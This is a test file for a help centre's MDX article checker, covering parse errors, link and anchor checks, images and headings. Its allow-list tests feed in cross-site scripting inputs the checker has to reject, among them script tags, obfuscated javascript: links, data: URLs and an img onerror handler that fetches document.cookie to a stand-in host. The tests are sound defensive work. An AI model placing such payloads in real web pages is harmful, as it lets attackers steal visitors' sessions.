// The article-body check (src/lib/article-body/): every bad input the issue lists, each with its
// file, line, the value as written and the fix, and the shop's files unchanged afterwards.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { contentNotes, formatNotes } from '../../src/lib/article-body/check.ts';
import { ContentError, type ContentProblem } from '../../src/lib/content-errors.ts';
import type { Content } from '../../src/lib/content-model.ts';
import { listFiles } from '../../src/lib/files.ts';
import { readContent } from '../../src/lib/read-content.ts';
import { fixture, shopWith } from '../helpers/content-tree.ts';

/** A guide's frontmatter: seven lines, so its body starts on line 8 of the file. */
const FRONTMATTER = '---\ntitle: Print the party kit at home\ndescription: Paper, scale and printer settings.\nupdated: 2026-10-01\nproducts: [party-kit]\ncategory: downloads\n---\n';
const FILE = 'content/guides/en/print-at-home.mdx';
const PNG = readFileSync(join(fixture('print-files'), 'content/guides/en/first-layer.png'));

interface Checked {
	problems: ContentProblem[];
	notes: readonly ContentProblem[];
	content?: Content;
}

/**
 * Checks the basic fixture shop with a guide of this body (and any other files changed), and
 * asserts that no file of the shop changed. Images are looked up from the shop's folder.
 */
function check(body: string, changes: Record<string, string | Buffer | null> = {}): Checked {
	const texts = Object.fromEntries(Object.entries(changes).filter((entry): entry is [string, string | null] => !Buffer.isBuffer(entry[1])));
	const root = shopWith({ 'guides/en/print-at-home.mdx': FRONTMATTER + body, ...texts });
	for (const [file, bytes] of Object.entries(changes)) {
		if (!Buffer.isBuffer(bytes)) continue;
		mkdirSync(dirname(join(root, 'content', file)), { recursive: true });
		writeFileSync(join(root, 'content', file), bytes);
	}
	const files = () => listFiles(join(root, 'content')).map((file) => [file, readFileSync(join(root, 'content', file)).toString('base64')]);
	const before = files();
	// The check looks images up from the folder article paths are relative to: the shop's own here.
	const cwd = process.cwd();
	process.chdir(root);
	try {
		const content = readContent(root);
		return { problems: [], notes: contentNotes(content), content };
	} catch (error) {
		if (!(error instanceof ContentError)) throw error;
		return { problems: error.problems, notes: [] };
	} finally {
		process.chdir(cwd);
		expect(files()).toEqual(before);
	}
}

/** The guide's problems, as `where: message / hint` lines. */
function problemsIn(body: string, changes: Record<string, string | Buffer | null> = {}): string[] {
	return check(body, changes)
		.problems.filter((p) => p.file === FILE)
		.map((p) => `${p.where}: ${p.message} / ${p.hint}`);
}

describe('constructs the check passed and the build failed on', () => {
	it.each([
		['line<br>two', 'line 8, column 5: has <br>, which MDX reads as a tag that is never closed. / write <br /> (with the slash before >).'],
		[
			'<img src="./photo.png">',
			'line 8, column 1: has <img src="./photo.png">, which MDX reads as a tag that is never closed. / write it as a Markdown image: ![what the picture shows](./photo.png)',
		],
		['Write to <help@x.com>.', 'line 8, column 10: has the e-mail address <help@x.com> in angle brackets, which MDX reads as a tag. / write it as a link: [help@x.com](mailto:help@x.com)'],
		['If a<b and c>d, scale down.', 'line 8, column 5: has a<b, where MDX reads `<` as the start of a tag. / if you mean "less than", write `\\<` with a space on each side: a \\< b'],
		['<p>text', 'line 8, column 1: has <p> with no </p> in the same paragraph, so MDX cannot read it. / delete the tag: a blank line between paragraphs is all Markdown needs.'],
		['Print at {100%} scale.', 'line 8, column 10: has `{100%}`, which MDX runs as code and cannot read. / write `\\{` (and `\\}`) for braces, or put the text in backticks.'],
		['Files <5 MB open fast.', 'line 8, column 7: has <5, where MDX reads `<` as the start of a tag. / write `\\<` for the character: \\<5'],
		['Go to <https://help.etsy.com>.', 'line 8, column 7: has the address <https://help.etsy.com> in angle brackets, which MDX reads as a tag. / write [https://help.etsy.com](https://help.etsy.com), or the address without < >: https://help.etsy.com'],
		['<!-- check the margins -->', 'line 8, column 1: has an HTML comment (<!-- check the margins -->), which MDX cannot read. / write a note to yourself as {/* … */}, which MDX leaves out of the page, or delete it.'],
		['A <a id=top></a> anchor.', 'line 8, column 3: has a tag with an attribute value not in quotes (<a id=top>), which MDX cannot read. / put the value in double quotes: id="top"'],
	])('%s', (body, expected) => {
		expect(problemsIn(`\n\n${body}\n`.slice(2))).toEqual([expected]);
	});

	it('lists every parse error of an article at once, each at its line and column in the file', () => {
		const body = ['## Paper', '', 'Use A4 or Letter.<br>Both work.', '', '| Size | Scale |', '| --- | --- |', '| A4 | {97%} |', '', 'Zażółć 🎉 <wbr> and <help@x.com>.'].join('\n');
		expect(problemsIn(body).map((line) => line.split(': ')[0])).toEqual(['line 10, column 18', 'line 14, column 8', 'line 16, column 11', 'line 16, column 21']);
	});
});

describe('what the check quotes', () => {
	it('reads a link address with brackets as one address, not as a broken one', () => {
		expect(
			problemsIn('See [the font](https://en.wikipedia.org/wiki/Font_(typography)), [the kit](/products/party-kit/?from=a_(b)) and [this](/guides/a_(b)/).\n'),
		).toEqual(['line 8: links to /guides/a_(b)/, which is not a page of this help centre. / check the slug against the file names under content/; write links as /guides/<slug>/, /help/<slug>/, /policies/<slug>/, /products/<id>/ or /licenses/<id>/.']);
	});

	it('quotes what the author wrote, not blanked text', () => {
		const [problem] = problemsIn('Open it {target="_blank"} or {  quickly  }.\n');
		expect(problem).toContain('`{target="_blank"}`');
		expect(problemsIn('Open it {  quickly  }.\n')[0]).toContain('`{  quickly  }`');
		expect(problemsIn('Press <kbd onclick="steal()">P</kbd>.\n')[0]).toContain('onclick in <kbd onclick="steal()">');
	});

	it('names a missing image at its own line', () => {
		// 49 lines of text after the frontmatter's 7: the image is on line 57 of the file.
		const text = Array.from({ length: 49 }, (_, i) => (i % 2 === 0 ? `Step ${i / 2 + 1}: fold along the line.` : '')).join('\n');
		expect(problemsIn(`${text}\n![The cake topper, cut out](./topper.png)\n`)).toEqual([
			'line 57: shows ./topper.png, but there is no content/guides/en/topper.png. / put the picture at content/guides/en/topper.png, or correct the name. Pictures go beside the article.',
		]);
	});
});

describe('what an export from another tool brings', () => {
	it('suggests backticks for a formula with <, which keep its quotes straight', () => {
		expect(problemsIn('Type =IF(A1<0,"overspent","ok") in the cell.\n').join('\n')).toContain('if it is a formula or code, put it in backticks, which keep it exactly as written: `=IF(A1<0,"overspent","ok")`');
	});

	it('refuses code indented by four spaces, which MDX would show as a paragraph, and keeps indented list items', () => {
		expect(problemsIn('To sum a column:\n\n    =SUM(A1:A3)\n    =AVERAGE(B1:B3)\n\nThat is all.\n\n- a list\n\n    with a second paragraph\n')).toEqual([
			'line 10: has `=SUM(A1:A3)` indented by four spaces, which Markdown elsewhere reads as code but MDX shows as a plain paragraph. / put the code between two lines of three backticks (```) instead of indenting it, or remove the indentation if it is text.',
		]);
	});
});

describe('the allow-list', () => {
	it('lets through Markdown, code and the named tags', () => {
		const body = [
			'Press <kbd>Ctrl</kbd> + <kbd>P</kbd>, then choose **Actual size**.<br />Not *Fit to page*.',
			'',
			'<abbr title="Portable Document Format">PDF</abbr> files print at 300 <abbr title="dots per inch">dpi</abbr>; H<sub>2</sub>O-based ink, 10<sup>th</sup> print, <mark>no scaling</mark>.',
			'',
			'| Paper | Weight | Use |',
			'| --- | ---: | --- |',
			'| Cardstock | 250 g/m² | toppers < 10 cm |',
			'',
			'```js',
			'const scale = { a4: 0.97, letter: 1 }; // <not a tag>',
			'```',
			'',
			'`{braces}` and `<tags>` in code are text, and so is \\{this\\} and a \\< b.',
			'',
			'<details>',
			'<summary>Why 97 %?</summary>',
			'',
			'A4 is narrower than Letter.[^1] {/* a note to self */}',
			'',
			'</details>',
			'',
			'<figure>',
			'<img src="./topper.png" alt="The cake topper printed on cardstock, cut out." />',
			'<figcaption>Cut inside the line.</figcaption>',
			'</figure>',
			'',
			'Mail [us](mailto:help@fixture.test), call [us](tel:+48123456789) or [read the refunds](/policies/refunds/).',
			'',
			'[![The topper](./topper.png)](https://example.com/?q={id}) and an escaped \\` backtick with {/* a comment */} after it.',
			'',
			'1. In a step:',
			'',
			'   ```js',
			'   const x = { a: 1 }; // [not a link](../x/) <b>',
			'   ```',
			'',
			'[^1]: 210 mm against 216 mm.',
		].join('\n');
		expect(problemsIn(body, { 'guides/en/topper.png': PNG })).toEqual([]);
	});

	it.each([
		['<script>window.x = document.cookie</script>', "line 8: has <script>, which would run code in the buyer's browser. / delete it: an article is text, and search is the only script this help centre runs."],
		['[Download](javascript:alert(document.cookie))', "line 8: links to javascript:alert(document.cookie), which would run code in the buyer's browser. / delete the link; links may lead only to https://…, mailto:…, tel:… or a page of this help centre (/guides/<slug>/)."],
		['[Download](JavaScript:alert(1))', "line 8: links to JavaScript:alert(1), which would run code in the buyer's browser. / delete the link; links may lead only to https://…, mailto:…, tel:… or a page of this help centre (/guides/<slug>/)."],
		['[Download](java&#x73;cript:alert(1))', "line 8: links to [Download](java&#x73;cript:alert(1)), which would run code in the buyer's browser. / delete the link; links may lead only to https://…, mailto:…, tel:… or a page of this help centre (/guides/<slug>/)."],
		['[Download][file]\n\n[file]: <\tvbscript:msgbox(1)>', "line 10: links to \tvbscript:msgbox(1), which would run code in the buyer's browser. / delete the link; links may lead only to https://…, mailto:…, tel:… or a page of this help centre (/guides/<slug>/)."],
		['[Logo](data:text/html;base64,PHNjcmlwdD4=)', 'line 8: links to data:text/html;base64,PHNjcmlwdD4=, which holds a whole file inside the address, and can run code. / delete the link; links may lead only to https://…, mailto:…, tel:… or a page of this help centre (/guides/<slug>/).'],
		['<a href=" jav&#x09;ascript:alert(1)">Download</a>', "line 8: has a link to a javascript: address (<a href=\" jav&#x09;ascript:alert(1)\">), which would run code in the buyer's browser. / delete the link; links may lead only to https://…, mailto:…, tel:… or a page of this help centre (/guides/<slug>/)."],
		[
			'<iframe src="https://www.youtube.com/embed/x"></iframe>',
			'line 8: has <iframe src="https://www.youtube.com/embed/x">, which loads another site inside the page, and tells it who is reading. / delete it. For a video, give the guide a `video` field with its address; for another page, write a link: [text](https://…).',
		],
		[
			'<img src="https://tracker.example/p.gif" alt="" />',
			"line 8: shows a picture from another site (https://tracker.example/p.gif): the buyer's browser would ask that site for it, telling it who is reading. / save the picture beside the article, as content/guides/en/p.gif, and write ![what it shows](./p.gif).",
		],
		[
			'![Our stand at the fair](https://cdn.example.com/fair.jpg?w=800)',
			"line 8: shows a picture from another site (https://cdn.example.com/fair.jpg?w=800): the buyer's browser would ask that site for it, telling it who is reading. / save the picture beside the article, as content/guides/en/fair.jpg, and write ![Our stand at the fair](./fair.jpg).",
		],
		[
			'<img src="./topper.png" alt="Topper" onerror="fetch(\'https://x.example/?c=\'+document.cookie)" />',
			"line 8: has the attribute onerror in <img src=\"./topper.png\" alt=\"Topper\" onerror=\"fetch('https:…: an event handler, which would run code in the buyer's browser. / delete onerror=…: nothing in an article runs code.",
		],
		['<span onClick="x()">Tap</span>', "line 8: has the attribute onClick in <span onClick=\"x()\">: an event handler, which would run code in the buyer's browser. / delete onClick=…: nothing in an article runs code."],
		['<style>body { display: none }</style>', 'line 8: has <style>, which would restyle the whole page. / delete it: the site styles articles, tables, code and images itself.'],
		['<object data="https://x.example/a.swf"></object>', 'line 8: has <object data="https://x.example/a.swf">, which loads another site inside the page, and tells it who is reading. / delete it. For a video, give the guide a `video` field with its address; for another page, write a link: [text](https://…).'],
		['<embed src="https://x.example/a.swf" />', 'line 8: has <embed src="https://x.example/a.swf" />, which loads another site inside the page, and tells it who is reading. / delete it. For a video, give the guide a `video` field with its address; for another page, write a link: [text](https://…).'],
		['import Chart from "./chart.jsx"', 'line 8: has `import Chart from "./chart.jsx"`, which is code: an article is text, and this help centre provides nothing to import. / delete the line; to begin a sentence with "import" or "export", write it in another way or put the word in **bold**.'],
		['export const price = 5', 'line 8: has `export const price = 5`, which is code: an article is text, and this help centre provides nothing to import. / delete the line; to begin a sentence with "import" or "export", write it in another way or put the word in **bold**.'],
		['Costs {price} today.', 'line 8: has `{price}`, which MDX runs as code. / write `\\{` and `\\}` for braces, or put the text in backticks.'],
		['<Callout>Careful</Callout>', 'line 8: uses a component (<Callout>), and this help centre provides none. / remove it and keep its text; write `\\<` if the text means the character.'],
		['<abbr title={name}>PDF</abbr>', 'line 8: has title={name} in <abbr title={name}>, which MDX runs as code. / write the value as text in double quotes: title="…"'],
		['<span style="color: red" class="big">Sale</span>', "line 8: has the attribute style in <span style=\"color: red\" class=\"big\">: a style, which would fight the site's own styles in dark mode and on phones. / delete it: the site styles articles itself."],
		['<a href="/help/font-missing/">the fix</a>', "line 8: has an HTML link (<a href=\"/help/font-missing/\">), which is neither checked nor kept in the reader's language. / write it as a Markdown link: [the fix](/help/font-missing/)"],
		['<center>Welcome</center>', 'line 8: has <center>, which articles cannot use. / write it in Markdown, or use one of <kbd>, <br />, <sup>, <sub>, <abbr title="…">, <mark>, <details> with <summary>, <figure> with <figcaption>, <img src="./file.jpg" alt="…" /> and table tags.'],
	])('refuses %s', (body, expected) => {
		expect(problemsIn(`${body}\n`)).toContain(expected);
	});

	it('refuses raw HTML a .md notice would pass to the page as written', () => {
		const notice = '---\ntitle: Etsy e-mails delayed\nseverity: outage\nstarts: 2026-11-01T00:00:00Z\nproducts: [brush-font]\n---\n\nUse the <kbd>Purchases</kbd> page.\n\n<script>alert(1)</script>\n\n<b onmouseover="x()">Hover</b> and [go](javascript:alert(1)).\n';
		const { problems } = check('Fine.\n', { 'notices/en/etsy-delay.md': notice });
		expect(problems.map((p) => `${p.file} ${p.where}: ${p.message}`)).toEqual([
			"content/notices/en/etsy-delay.md line 10: has <script>alert(1)</script>, which would run code in the buyer's browser.",
			"content/notices/en/etsy-delay.md line 12: has the attribute onmouseover in <b onmouseover=\"x()\">: an event handler, which would run code in the buyer's browser.",
			"content/notices/en/etsy-delay.md line 12: links to javascript:alert(1), which would run code in the buyer's browser.",
		]);
	});
});

describe('images', () => {
	it('needs the file beside the article, or in public/, and alt text', () => {
		expect(
			problemsIn(['![](./topper.png)', '', '![The topper](./Topper.PNG)', '', '![The logo](/logo.png)', '', '![A photo from my phone](./IMG_2041.HEIC)'].join('\n'), { 'guides/en/topper.png': PNG }),
		).toEqual([
			"line 8: has a picture without alt text (![](./topper.png)), so buyers who cannot see it get nothing. / say what it shows between the brackets: ![Lightroom's Presets panel with the group open](./topper.png).",
			'line 10: shows ./Topper.PNG, but there is no content/guides/en/Topper.PNG. / did you mean `./topper.png`? File names are case-sensitive on most hosts.',
			'line 12: shows /logo.png, but there is no public/logo.png. / put the picture at public/logo.png, or better beside the article, as content/guides/en/logo.png, written ./logo.png, or correct the name. Pictures go beside public/.',
			'line 14: shows ./IMG_2041.HEIC, a .heic the site cannot show as a picture. / export it from Photos (or your phone) as JPEG and write ./IMG_2041.jpg.',
		]);
	});

	it('shows no pictures in a notice, which is a short message on many pages', () => {
		const notice = '---\ntitle: Etsy e-mails delayed\nseverity: outage\nstarts: 2026-11-01T00:00:00Z\nproducts: [brush-font]\n---\n\nUse the Purchases page:\n\n![The Purchases page on Etsy](./purchases.png)\n';
		expect(check('Fine.\n', { 'notices/en/etsy-delay.md': notice, 'notices/en/purchases.png': PNG }).problems.map((p) => `${p.file} ${p.where}: ${p.message} / ${p.hint}`)).toEqual([
			'content/notices/en/etsy-delay.md line 10: shows a picture (![The Purchases page on Etsy](./purchases.png)), but a notice is a short message shown on many pages. / delete it, and link to a guide that shows the picture: [see the guide](/guides/<slug>/).',
		]);
	});

	it('reads an image beside the original from a translation', () => {
		const pt = `${FRONTMATTER}![O topo do bolo](../en/topper.png)\n`;
		expect(check('![The topper](./topper.png)\n', { 'guides/en/topper.png': PNG, 'guides/pt/print-at-home.mdx': pt }).problems).toEqual([]);
	});
});

describe('links and anchors', () => {
	it('checks #anchors against the headings of this page and of the page linked to, in the reader’s language', () => {
		const body = ['## Choose the paper', '', 'See [below](#choose-the-paper), [the top](#top), [a typo](#choose-the-papr) and [the fix](/help/font-missing/#fix).', '', 'Also [a missing one](/help/font-missing/#restart), and [the product](/products/party-kit/#sizes).'].join('\n');
		expect(problemsIn(body)).toEqual([
			'line 10: links to #choose-the-papr, which is not a heading of this article. / did you mean `#choose-the-paper`? A heading\'s id is its words in lower case, joined by hyphens.',
			'line 12: links to /help/font-missing/#restart, but /help/font-missing/ has no heading #restart. / /help/font-missing/ has these headings: `#fix`.',
			'line 12: links to /products/party-kit/#sizes, but /products/party-kit/ has no heading #sizes. / /products/party-kit/ has no headings to link to: link to the page itself, without #sizes.',
		]);
	});

	it('checks an anchor against the translation a reader of that language is shown', () => {
		const pt = `${FRONTMATTER}Veja [a solução](/help/font-missing/#solucao) e [a outra](/help/font-missing/#fix).\n`;
		const help = '---\ntitle: A fonte não aparece\ndescription: Instalada mas não listada.\nupdated: 2026-10-03\nproducts: all\ncategory: downloads\nsymptom: A fonte não aparece.\ncause: Os programas leem a lista ao abrir.\nsavedReply: Reinicie o programa.\n---\n\n## Solução\n\nReinicie o programa.\n';
		const { problems } = check('Fine.\n', { 'guides/pt/print-at-home.mdx': pt, 'troubleshooting/pt/font-missing.mdx': help });
		expect(problems.map((p) => `${p.file} ${p.where}: ${p.message} / ${p.hint}`)).toEqual([
			"content/guides/pt/print-at-home.mdx line 8: links to /help/font-missing/#solucao, but /help/font-missing/ has no heading #solucao. / did you mean `#solução`? A heading's id is its words in lower case, joined by hyphens.",
			"content/guides/pt/print-at-home.mdx line 8: links to /help/font-missing/#fix, but /help/font-missing/ has no heading #fix. / /help/font-missing/ has these headings: `#solução`.",
		]);
	});

	it('notes an anchor that the translation a fallback page leads to does not have', () => {
		// print-at-home has no Portuguese translation, so /pt/guides/print-at-home/ shows it in English;
		// its link then leads to /pt/guides/install-the-font/, whose heading is "Descompactar".
		const checked = check('Check [it](/guides/install-the-font/#check-it) and [unzip](/guides/install-the-font/#unzip-it).\n');
		expect(checked.problems).toEqual([]);
		expect(checked.notes.map((n) => `${n.where}: ${n.message} / ${n.hint}`)).toEqual([
			'line 8: links to /guides/install-the-font/#check-it. Where this article is shown untranslated (pt), the link leads to the translation of /guides/install-the-font/, which has no heading #check-it: buyers land at the top of that page. / translate this article, or link to /guides/install-the-font/ without #check-it.',
			'line 8: links to /guides/install-the-font/#unzip-it. Where this article is shown untranslated (pt), the link leads to the translation of /guides/install-the-font/, which has no heading #unzip-it: buyers land at the top of that page. / translate this article, or link to /guides/install-the-font/ without #unzip-it.',
		]);
	});

	it('refuses links ending .html, with the address to write', () => {
		expect(problemsIn('Read [the fix](/help/font-missing.html), [the refunds](/policies/refunds/index.html#top) and [old](/help/printing.html).\n')).toEqual([
			'line 8: links to /help/font-missing.html, an address ending .html, which pages of this help centre do not have. / write /help/font-missing/',
			'line 8: links to /policies/refunds/index.html#top, an address ending .html, which pages of this help centre do not have. / write /policies/refunds/#top',
			'line 8: links to /help/printing.html, an address ending .html, which pages of this help centre do not have. / write it without .html, as /help/printing/; check the slug against the file names under content/; write links as /guides/<slug>/, /help/<slug>/, /policies/<slug>/, /products/<id>/ or /licenses/<id>/.',
		]);
	});

	it('lets a link to a former address through, with a note naming the current one', () => {
		const checked = check('Follow [the font guide](/guides/font-install/).\n');
		expect(checked.problems).toEqual([]);
		expect(checked.notes).toEqual([
			{ file: FILE, where: 'line 8', message: 'links to /guides/font-install/, the former address of /guides/install-the-font/. It still leads there.', hint: 'write /guides/install-the-font/ to save buyers the detour.' },
		]);
		expect(formatNotes(checked.notes)).toBe(
			`    Note: ${FILE}, line 8: links to /guides/font-install/, the former address of /guides/install-the-font/. It still leads there. Hint: write /guides/install-the-font/ to save buyers the detour.`,
		);
	});

	it('suggests at most three near slugs, never the whole list', () => {
		const many = Object.fromEntries(
			Array.from({ length: 40 }, (_, i) => [`guides/en/print-step-${i}.mdx`, FRONTMATTER.replace('Print the party kit at home', `Step ${i}`)]),
		);
		const [problem] = problemsIn('See [step 1](/guides/print-stpe-1/) and [x](/guides/zzzzzzzzzzzzzzzzzzzzzzzz/).\n', many);
		expect(problem).toBe('line 8: links to /guides/print-stpe-1/, which is not a page of this help centre. / did you mean `/guides/print-step-1/`, `/guides/print-step-0/` or `/guides/print-step-10/`?');
		expect(problemsIn('See [x](/guides/zzzzzzzzzzzzzzzzzzzzzzzz/).\n', many)[0]).toContain('check the slug against the file names under content/');
	});

	it('refuses links relative to the page, with the page it likely means', () => {
		expect(problemsIn('Read [this](../font-missing/) or [that](www.etsy.com/shop/x) or [mail](help@fixture.test).\n')).toEqual([
			'line 8: links to ../font-missing/, which is read as a path relative to this page and breaks when the page moves or is read in another language. / write it from the site root: did you mean `/help/font-missing/`?',
			'line 8: links to www.etsy.com/shop/x, which is read as a path relative to this page and breaks when the page moves or is read in another language. / write the full address: https://www.etsy.com/shop/x',
			'line 8: links to help@fixture.test, which is read as a path relative to this page and breaks when the page moves or is read in another language. / write it as mailto:help@fixture.test',
		]);
	});
});

describe('headings', () => {
	it('refuses empty headings, skipped levels and a second title', () => {
		expect(problemsIn(['# Print the party kit', '', '## Paper', '', '####', '', '#### Margins', '', '## Scale', '', '### Letter paper'].join('\n'))).toEqual([
			"line 8: has a level-1 heading (`# Print the party kit`), but the article's title is the page's only one. / start sections at level 2: ## Print the party kit",
			'line 12: has an empty heading (`####`). / write the heading\'s words after the ####, or delete the line.',
			'line 14: has a level-4 heading (`#### Margins`) after level 2, skipping level 3: screen readers use the levels to find their way. / write it as ### Margins, or add a level-3 heading above it.',
		]);
	});

	it('refuses headings in a notice, which is shown under its own title', () => {
		const notice = '---\ntitle: Etsy e-mails delayed\nseverity: outage\nstarts: 2026-11-01T00:00:00Z\nproducts: [brush-font]\n---\n\n## What to do\n\nUse the Purchases page.\n';
		expect(check('Fine.\n', { 'notices/en/etsy-delay.md': notice }).problems.map((p) => `${p.file} ${p.where}: ${p.message}`)).toEqual([
			'content/notices/en/etsy-delay.md line 8: has the heading `## What to do`, but a notice is shown inside other pages under its own title.',
		]);
	});

	it('gives a heading that starts with a digit an id that starts with a letter, and checks links against it', () => {
		const body = ['## 1. Unzip the file', '', '## 2. Print page 1', '', 'Back to [step 1](#section-1-unzip-the-file); not [this](#1-unzip-the-file).'].join('\n');
		expect(problemsIn(body)).toEqual([
			"line 12: links to #1-unzip-the-file, which is not a heading of this article. / did you mean `#section-1-unzip-the-file`? A heading's id is its words in lower case, joined by hyphens.",
		]);
	});
});
